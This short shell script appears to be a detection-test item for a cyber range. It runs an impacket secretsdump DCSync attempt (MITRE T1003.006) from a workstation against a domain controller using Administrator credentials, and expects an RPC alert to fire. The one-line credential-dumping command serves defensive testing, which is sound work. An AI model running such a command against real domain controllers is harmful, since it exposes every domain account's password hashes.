# SPDX-License-Identifier: Apache-2.0
# what: impacket's DCSync; Samba refuses its last call
# technique: T1003.006
# from: ws1
# to: dc1
# account: Administrator
# outcome: attempt
# must: alert rpc
. "$RANGE_HERE/item.sh"
cd "$HOME"
says 'DRSUAPI' impacket secretsdump -just-dc "CORP/Administrator:$ADMIN_PASSWORD@$dc1"
